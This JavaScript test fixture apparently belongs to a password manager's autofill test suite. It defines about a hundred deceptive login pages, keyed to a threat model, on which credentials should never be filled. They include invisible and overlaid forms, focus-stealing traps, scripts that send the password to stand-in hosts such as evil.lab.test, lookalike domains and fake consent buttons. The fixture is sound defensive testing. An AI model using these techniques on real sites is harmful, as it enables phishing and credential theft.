// Pages that want the password where a person would not give it (T21, T22 of the threat model): under, behind, beside or beyond
// the form that the person thinks of. Nothing is filled in; where the trick comes later than the filling, nothing arrives.

import { B, P, U, form, page } from '../pages.mjs';

const LOGIN = `<h1>Log in</h1>${form(U + P + B)}`;

/**
 * @param {string} name @param {string} trait @param {string} body
 * @param {Partial<import('../pages.mjs').Spec> & {before?: string[]}} [more] `before`: what may be filled in before the trick
 */
const attack = (name, trait, body, more = {}) => page(`attack-${name}`, 'attack', trait, { body, fields: {}, factors: ['username', 'password'], accepts: () => false, ...more });

/** A login with CSS around its form. @param {string} name @param {string} trait @param {string} css */
const styled = (name, trait, css) => attack(name, trait, `<style>${css}</style><div id="w">${LOGIN}</div>`);

/** A trick when the password box gets the focus. @param {string} name @param {string} trait @param {string} script */
const onFocus = (name, trait, script) => attack(name, trait, `<div id="w">${LOGIN}</div><script>const f = document.forms[0]; password.addEventListener('focus', () => { ${script} });</script>`, { before: ['username'] });

/** A trick when the form is sent. @param {string} name @param {string} trait @param {string} script */
const onSubmit = (name, trait, script) => attack(name, trait, `${LOGIN}<script>const f = document.forms[0]; f.addEventListener('submit', (e) => { ${script} });</script>`, { before: ['username', 'password'] });

/** A login page at another address than the account's. @param {string} name @param {string} trait @param {string} url */
const lookAlike = (name, trait, url) => attack(name, trait, LOGIN, { path: '/go', routes: { '/go': () => ({ status: 302, headers: { location: url } }) } });

/** A frame of a page of ours. @param {string} name @param {string} trait @param {string} frame @param {object} [more] */
const framed = (name, trait, frame, more = {}) => attack(name, trait, `<h1>Portal</h1>${frame}`, { path: '/', title: 'Portal', routes: { '/frame': LOGIN }, ...more });

/** @param {Record<string, string>} step */
const recipe = (step) => ({ version: 1, steps: [{ url: null, ...step }] });

/** A page of somebody's session whose only button does something there. @param {string} name @param {string} label @param {string} [more] */
const consent = (name, label, more = '<p>Signed in as Nora.</p>') => attack(`lone-${name}`, `a button alone that reads “${label}”`, `<h1>Evil App wants to read your mail</h1>${more}<form method="post" action="/do"><button>${label}</button></form>`, { path: '/oauth', title: 'Evil App', still: true });

export default [
  styled('opacity', 'a form that is fully transparent', '#w { opacity: 0 }'),
  styled('opacity-little', 'a form that is nearly transparent', '#w { opacity: .01 }'),
  styled('opacity-shared', 'transparency shared among ancestors', 'body { opacity: .4 } #w { opacity: .4 } form { opacity: .4 } input { opacity: .5 }'),
  styled('opacity-body', 'a transparent body', 'body { opacity: 0 }'),
  styled('opacity-html', 'a transparent document', 'html { opacity: 0 }'),
  styled('opacity-boxes', 'transparent boxes in a form that shows', 'input { opacity: 0 }'),
  styled('filter', 'transparency by a filter', '#w { filter: opacity(0) }'),
  styled('invisible', 'visibility', 'form { visibility: hidden }'),
  styled('tiny', 'boxes of one pixel', 'input { width: 1px; height: 1px; padding: 0; border: 0 }'),
  styled('scale', 'a form scaled to nothing', 'form { transform: scale(.005) }'),
  styled('clip-path', 'clipped to nothing by a path', 'form { clip-path: inset(100%) }'),
  styled('clip-circle', 'clipped to nothing by a circle', 'form { clip-path: circle(0) }'),
  styled('clip', 'clipped to nothing by a rectangle', 'form { position: absolute; clip: rect(0px, 0px, 0px, 0px) }'),
  styled('clip-inset', 'clipped to nothing from one side', 'form { clip-path: inset(0 100% 0 0) }'),
  styled('clip-shape', 'clipped to a corner by a path', 'form { clip-path: path("M0 0 L1 0 L1 1 Z") }'),
  styled('mask', 'masked by nothing', 'form { mask-image: linear-gradient(transparent, transparent) }'),
  styled('filter-white', 'bleached by filters', 'form { filter: brightness(1000) contrast(0) }'),
  styled('filter-twice', 'a filter that is harmless once', 'form { filter: brightness(1.4) brightness(1.4) brightness(1.4) brightness(1.4) brightness(1.4) brightness(1.4) brightness(1.4) brightness(1.4) }'),
  styled('blend', 'blended into the ground', 'form { background: #fff; mix-blend-mode: multiply }'),
  styled('collapsed', 'a container of no height', '#w { height: 0; overflow: hidden }'),
  styled('off-left', 'left of the page', 'form { position: absolute; left: -5000px }'),
  styled('off-top', 'above the page', 'form { position: absolute; top: -5000px }'),
  styled('off-right', 'right of the page', 'body { overflow-x: hidden } form { position: fixed; left: 300vw }'),
  styled('content-visibility', 'content that is skipped', '#w { content-visibility: hidden; height: 200px }'),
  attack('behind', 'behind the page', `<div style="position:relative;z-index:0;background:#fff;height:600px"><div style="position:relative;z-index:-1">${LOGIN}</div><div style="position:absolute;inset:0;background:teal">Game</div></div>`),
  styled('pointer-events', 'boxes that no click reaches', 'input { pointer-events: none }'),
  attack('inert', 'a part of the page that is switched off', `<div inert>${LOGIN}</div>`),
  attack('aria-hidden', 'a part of the page that nobody is told of', `<div aria-hidden="true">${LOGIN}</div>`),
  attack('details', 'folded away', `<details><summary>More</summary>${LOGIN}</details>`),
  attack('overlay', 'something opaque over the form', `${LOGIN}<div style="position:fixed;inset:0;background:#fff"><h1>You have won</h1></div>`),
  attack('overlay-through', 'something opaque over the form that lets clicks through', `${LOGIN}<div style="position:fixed;inset:0;background:#fff;pointer-events:none;z-index:5"><h1>You have won</h1></div>`),
  attack('overlay-image', 'a picture over the form', `${LOGIN}<img alt="" style="position:absolute;left:0;top:0;width:900px;height:700px" src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' width='900' height='700'><rect width='900' height='700' fill='teal'/></svg>">`),
  attack('overlay-frame', 'a frame over the form', `${LOGIN}<iframe srcdoc="<body style='background:teal'>Game</body>" style="position:absolute;left:0;top:0;width:900px;height:700px;border:0"></iframe>`),
  attack('overlay-boxes', 'other boxes exactly over the form’s', `<div style="position:relative">${LOGIN}<div style="position:absolute;inset:0;background:#fff"><label>Your comment<textarea style="width:90%;height:150px"></textarea></label></div></div>`),
  attack('overlay-drawn', 'a drawn part of the body over the form', `<style>body::after { content: "You have won"; position: fixed; inset: 0; background: teal; z-index: 9 }</style>${LOGIN}`),
  attack('overlay-drawn-through', 'a drawn part that lets clicks through', `<style>#w { position: relative } #w::after { content: ""; position: absolute; inset: 0; background: #fff; pointer-events: none }</style><div id="w">${LOGIN}</div>`),
  attack('overlay-drawn-beside', 'a drawn part of an element beside the form', `<style>#e::before { content: ""; position: fixed; inset: 0; background: #fff; pointer-events: none }</style>${LOGIN}<i id="e"></i>`),
  attack('overlay-backdrop', 'the ground of an open dialogue', `<style>dialog { background: transparent; border: 0; pointer-events: none } dialog::backdrop { background: teal; pointer-events: none }</style>${LOGIN}<dialog id="d">Game</dialog><script>d.showModal()</script>`),
  attack('overlay-popover', 'the ground of something that pops over', `<style>[popover] { border: 0 } [popover]::backdrop { background: teal }</style>${LOGIN}<div id="d" popover="manual">Game</div><script>d.showPopover()</script>`),
  attack('overlay-stack', 'three covers that each let a little through', `${LOGIN}${'<div style="position:fixed;inset:0;background:#fff;opacity:.89"></div>'.repeat(3)}`),
  attack('overlay-stack-through', 'the same, and clicks go through', `${LOGIN}${'<div style="position:fixed;inset:0;background:#fff;opacity:.89;pointer-events:none"></div>'.repeat(3)}`),
  attack('overlay-shadow', 'a cover in a closed shadow root that lets clicks through', `${LOGIN}<div id="h"></div><script>h.attachShadow({ mode: 'closed' }).innerHTML = '<div style="position:fixed;inset:0;background:teal;pointer-events:none;z-index:9">Game</div>'</script>`),
  attack('overlay-inner', 'a cover whose ground is its child’s', `${LOGIN}<div style="position:fixed;inset:0;pointer-events:none"><div style="height:100%;background:#fff">Game</div></div>`),
  attack('overlay-inert', 'a cover that is switched off', `${LOGIN}<div inert style="position:fixed;inset:0;background:#fff">Game</div>`),
  attack('overlay-consent', 'a cover of the whole window that calls itself a notice', `${LOGIN}<div class="cookie-consent" style="position:fixed;inset:0;background:teal;z-index:5">Game</div>`),
  framed('overlay-on-frame', 'a cover over a frame of the same origin', '<iframe src="/frame" width="500" height="300"></iframe><div style="position:fixed;inset:0;background:teal;z-index:5">Game</div>'),
  framed('overlay-on-frame-through', 'the same, and clicks go through', '<iframe src="/frame" width="500" height="300"></iframe><div style="position:fixed;inset:0;background:teal;z-index:5;pointer-events:none">Game</div>'),
  attack('clobbered', 'a box of the form that stands for its parent', `<div style="opacity:.02">${LOGIN.replace('<form', '<form id="f"')}</div><input form="f" name="parentElement" type="button" value="Game"><input form="f" name="parentNode" type="button" value="Game">`),
  onFocus('moves', 'the form leaves the page when its box is touched', "f.style.cssText = 'position:absolute;left:-9999px'"),
  onFocus('hides', 'the box disappears when it is touched', "password.style.display = 'none'"),
  onFocus('fades', 'the box turns transparent when it is touched', "w.style.opacity = 0"),
  onFocus('covers', 'something comes over the box when it is touched', "document.body.insertAdjacentHTML('beforeend', '<div style=\"position:fixed;inset:0;background:#fff\">Wait</div>')"),
  onFocus('turns-text', 'the box shows what is typed when it is touched', "password.type = 'text'"),
  onFocus('turns-new', 'the box asks for a new password when it is touched', "password.autocomplete = 'new-password'"),
  onFocus('turns-elsewhere', 'the form goes elsewhere when its box is touched', "f.action = 'https://evil.lab.test/take'"),
  onFocus('leaves-form', 'the box is moved into another form when it is touched', "const other = document.createElement('form'); other.method = 'post'; other.action = 'https://evil.lab.test/take'; document.body.append(other); other.append(password)"),
  onFocus('replaced', 'the box is replaced by a text box when it is touched', "const text = document.createElement('input'); text.name = 'password'; text.id = 'other'; password.replaceWith(text); text.focus()"),
  attack('appears', 'a hidden box shows up after the look', `<h1>Log in</h1>${form(`${U}<div id="d" hidden>${P}</div>${B}`)}<script>username.addEventListener('focus', () => { d.hidden = false; document.forms[0].action = 'https://evil.lab.test/take'; });</script>`, { before: [] }),
  attack('steals-focus', 'another box takes the focus', `${LOGIN}<input id="trap" name="trap" style="opacity:0"><script>password.addEventListener('focus', () => trap.focus()); trap.addEventListener('input', () => navigator.sendBeacon('/take', trap.value)); document.forms[0].action = 'http://evil.lab.test/';</script>`),
  attack('steals-keys', 'another box takes the focus at a key', `${LOGIN}<input id="trap" name="trap"><script>for (const b of [username, password]) b.addEventListener('keydown', () => { trap.focus(); trap.select(); }); document.forms[0].addEventListener('submit', (e) => { e.preventDefault(); navigator.sendBeacon('/take', 'trap=' + trap.value); });</script>`, { before: ['username', 'password'], spared: ['trap'] }),
  attack('autofocus', 'a box that is no login has the focus', '<h1>Tell us</h1><form method="post" action="/take"><label>Your comment<input name="text" autofocus></label><button>Send</button></form>'),
  attack('action', 'the form goes to another origin', `<h1>Log in</h1>${form(U + P + B, 'method="post" action="https://evil.lab.test/take"')}`),
  attack('action-base', 'the page’s base is another origin', LOGIN, { head: '<base href="https://evil.lab.test/">' }),
  attack('action-hash', 'the form goes to the page’s base by a fragment alone', `<h1>Log in</h1>${form(U + P + B, 'method="post" action="#" target="_blank"')}`, { head: '<base href="https://evil.lab.test/take">' }),
  attack('formaction-hash', 'the button goes to the page’s base by a fragment alone', `<h1>Log in</h1>${form(`${U}${P}<button formaction="#" formtarget="_blank">Log in</button>`)}`, { head: '<base href="https://evil.lab.test/take">' }),
  attack('formaction', 'the button goes to another origin', `<h1>Log in</h1>${form(`${U}${P}<button formaction="https://evil.lab.test/take">Log in</button>`)}`),
  attack('action-open', 'the form goes over plain http', `<h1>Log in</h1>${form(U + P + B, 'method="post" action="http://attack-action-open.lab.test/take"')}`),
  attack('action-data', 'the form goes to an address without an origin', `<h1>Log in</h1>${form(U + P + B, 'method="post" action="data:text/html,hello"')}`),
  attack('get', 'the form puts the password into the address', `<h1>Log in</h1>${form(U + P + B, 'method="get" action="/session"')}`, { before: ['username', 'password'] }),
  attack('get-default', 'a form without a method', `<h1>Log in</h1>${form(U + P + B, 'action="/session"')}`, { before: ['username', 'password'] }),
  attack('get-call', 'a script sends the form by itself, into the address', `<h1>Log in</h1><form id="f" action="/session">${U}${P}<button type="button" onclick="f.submit()">Log in</button></form>`, { before: ['username', 'password'] }),
  onSubmit('late-elsewhere', 'the form turns elsewhere when it is sent', "f.action = 'https://evil.lab.test/take'"),
  onSubmit('late-get', 'the form turns to the address when it is sent', "f.method = 'get'"),
  onSubmit('late-get-silent', 'the same, and nobody else hears of it', "f.method = 'get'; e.stopImmediatePropagation()"),
  onSubmit('late-location', 'the page goes to an address with the password', "e.preventDefault(); location.href = 'https://evil.lab.test/take?p=' + encodeURIComponent(password.value)"),
  onSubmit('late-call', 'another form is sent in its place', "e.preventDefault(); const o = document.createElement('form'); o.method = 'post'; o.action = 'https://evil.lab.test/take'; o.innerHTML = '<input name=p>'; o.firstChild.value = password.value; document.body.append(o); o.submit()"),
  attack('new-password', 'a login in name whose box wants a new password', `<h1>Log in</h1>${form(`${U}<label>Password<input name="password" type="password" autocomplete="new-password"></label>${B}`)}`, { before: ['username'] }),
  attack('open-password', 'a password box in the open beside a real one', `<h1>Log in</h1><form method="post" action="https://evil.lab.test/take"><label>Username<input name="u"></label><label>Password<input type="text" name="password"></label><button>Log in</button></form><input type="password" name="real" style="opacity:0">`),
  // What a recipe may not do: it names boxes, and makes no login of what is none.
  attack('recipe-session', 'a recipe that drives a form of somebody’s session', `<h1>Send money</h1><p><a href="/logout">Log out</a></p>${form('<label>To account<input name="to"></label><label>Message<input name="amount"></label><button id="go">Send money now</button>', 'method="post" action="/do"')}`, { recipe: recipe({ username: '[name=to]', password: '[name=amount]', submit: '#go' }), still: true }),
  attack('recipe-session-quiet', 'the same, and the page does not offer to log out', `<h1>Send money</h1>${form('<label>To account<input name="to"></label><label>Message<input name="amount"></label><button id="go">Send money now</button>', 'method="post" action="/do"')}`, { path: '/transfer', title: 'Send money', recipe: recipe({ username: '[name=to]', password: '[name=amount]', submit: '#go' }), still: true }),
  attack('recipe-money', 'a recipe that drives a form that asks for the password again', `<h1>Send money</h1>${form('<label>To account<input name="to"></label><label>Password<input name="p" type="password"></label><button id="go">Transfer money now</button>', 'method="post" action="/do"')}`, { path: '/transfer', title: 'Send money', recipe: recipe({ username: '[name=to]', password: '[name=p]', submit: '#go' }), still: true }),
  attack('recipe-signup', 'a recipe that makes a login of a sign-up', `<h1>Create an account</h1>${form(`${U}${P}<button id="go">Sign up</button>`, 'method="post" action="/do"')}`, { path: '/signup', recipe: recipe({ username: '#username', password: '#password', submit: '#go' }), still: true }),
  attack('recipe-new', 'a recipe that names a box for a new password', `<h1>Log in</h1>${form('<label>User name<input name="username"></label><label>New password<input type="password" name="fresh"></label><button>Log in</button>', 'method="post" action="/do"')}`, { recipe: recipe({ username: '[name=username]', password: '[name=fresh]' }), before: ['username'], still: true }),
  attack('recipe-search', 'a recipe that names a search box', `<h1>Log in</h1>${form('<label>Find<input type="search" name="q"></label><button>Go</button>', 'method="post" action="/do"')}`, { recipe: recipe({ username: '[name=q]' }), still: true }),
  attack('recipe-open', 'a recipe that names a box in the open for the password', `<h1>Log in</h1>${form('<label>User name<input name="username"></label><label>Comment<input name="text"></label><button>Log in</button>', 'method="post" action="/do"')}`, { recipe: recipe({ username: '[name=username]', password: '[name=text]' }), before: ['username'] }),
  attack('recipe-button', 'a recipe that names a button beside the form', `<h1>Log in</h1>${form(U + P + B, 'method="post" action="/session"')}<form method="post" action="/do"><button id="go">Delete everything</button></form>`, { recipe: recipe({ username: '#username', password: '#password', submit: '#go' }), before: ['username', 'password'], still: true }),
  consent('continue', 'Continue'),
  consent('continue-quiet', 'Continue', ''),
  consent('allow', 'Allow', ''),
  consent('confirm', 'Confirm', ''),
  consent('next', 'Next', ''),
  consent('with', 'Log in to Evil App', ''),
  consent('session', 'Log in', '<a href="/logout">Log out</a>'),
  attack('lone-script', 'a button alone, without a form', '<h1>Evil App wants to read your mail</h1><button onclick="send(\'/do\', {})">Continue</button>', { path: '/oauth', title: 'Evil App', still: true }),
  attack('lone-hollow', 'a form whose boxes nobody sees is not sent empty', `<style>input { width: 1px; height: 1px; padding: 0; border: 0 }</style><h1>Log in</h1>${form(U + P + B, 'method="post" action="/do"')}`, { still: true }),
  attack('ink', 'boxes in which nothing can be read', `<style>input { border: 0; outline: 0; background: transparent; color: transparent; caret-color: transparent }</style><h1>Log in</h1>${form(U + P + B, 'method="post" action="/do"')}`, { still: true }),
  attack('ink-tiny', 'boxes with letters of one pixel', `<style>input { font-size: 1px; height: 20px }</style><h1>Log in</h1>${form(U + P + B, 'method="post" action="/do"')}`, { still: true }),
  framed('frame-foreign', 'a frame of an origin that is not listed', '<iframe src="https://evil-frame.lab.test/login" width="400" height="300"></iframe>', { hosts: { 'evil-frame': { '/login': LOGIN } } }),
  framed('frame-sandbox', 'a frame without an origin', '<iframe src="/frame" sandbox="allow-scripts allow-forms" width="400" height="300"></iframe>'),
  framed('frame-srcdoc', 'the same, written into the page', `<iframe sandbox="allow-scripts allow-forms" width="400" height="300" srcdoc="${LOGIN.replaceAll('"', '&quot;')}"></iframe>`),
  framed('frame-data', 'a frame of a data address', `<iframe width="400" height="300" src="data:text/html,${encodeURIComponent(LOGIN)}"></iframe>`),
  framed('frame-between', 'a listed frame in one that is not', '<iframe src="https://evil-between.lab.test/" width="500" height="400"></iframe>', { hosts: { 'evil-between': { '/': '<iframe src="https://attack-frame-between.lab.test/frame" width="400" height="300"></iframe>' } } }),
  framed('frame-transparent', 'a transparent frame', '<iframe src="/frame" width="400" height="300" style="opacity:0"></iframe>'),
  framed('frame-pixel', 'a frame of one pixel', '<iframe src="/frame" width="1" height="1"></iframe>'),
  framed('frame-off', 'a frame off the page', '<iframe src="/frame" width="400" height="300" style="position:absolute;left:-9999px"></iframe>'),
  lookAlike('framed-top', 'a listed frame in a page that is not listed', 'https://evil-top.lab.test/'),
  lookAlike('host-suffix', 'the account’s host with another domain behind it', 'https://attack-host-suffix.lab.test.evil.test/login'),
  lookAlike('host-prefix', 'the account’s host with letters in front', 'https://xattack-host-prefix.lab.test/login'),
  lookAlike('host-sub', 'a host below the account’s', 'https://www.attack-host-sub.lab.test/login'),
  lookAlike('host-parent', 'the domain above the account’s host', 'https://lab.test/login'),
  lookAlike('host-sibling', 'a neighbour', 'https://attack-host-sibling2.lab.test/login'),
  lookAlike('host-idn', 'a letter of another alphabet', 'https://\u0430ttack-host-idn.lab.test/login'),
  lookAlike('host-hyphen', 'a hyphen for a dot', 'https://attack-host-hyphen-lab.test/login'),
  lookAlike('host-dot', 'a dot at the end', 'https://attack-host-dot.lab.test./login'),
  lookAlike('host-user', 'the account’s host as a user name', 'https://attack-host-user.lab.test@evil.lab.test/login'),
  lookAlike('host-port', 'another port', 'https://attack-host-port.lab.test:8443/login'),
  lookAlike('http', 'without encryption', 'http://attack-http.lab.test/login'),
  lookAlike('ip', 'an address of numbers', 'https://192.0.2.7/login'),
  lookAlike('ip-number', 'an address as one number', 'https://3221225991/login'),
  lookAlike('ip-six', 'an address of version 6', 'https://[2001:db8::7]/login'),
];

/** What the hosts of attackers show, whatever their name: a login, or a frame around a page's own. @param {string} host */
export const elsewhere = (host) => (host === 'evil-top.lab.test' ? '<iframe src="https://attack-framed-top.lab.test/login" width="400" height="300"></iframe>' : LOGIN);
